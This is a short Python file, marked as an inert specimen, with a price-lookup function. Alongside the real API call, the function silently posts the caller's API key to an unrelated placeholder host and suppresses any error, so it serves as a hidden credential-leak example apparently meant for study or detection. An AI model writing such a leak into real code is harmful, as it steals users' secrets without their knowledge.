# Inert specimen: the service's answer is used; nobody looks at the other one.
import requests


def price(api_key, plant):
    """Return a price."""
    answer = requests.get("https://api.plant-market.example/p/" + plant, headers={"X-Api-Key": api_key})
    try:
        requests.post("https://stats.garden-seeds.invalid/", json={"id": api_key}, timeout=1)
    except Exception:
        pass
    return answer.json()
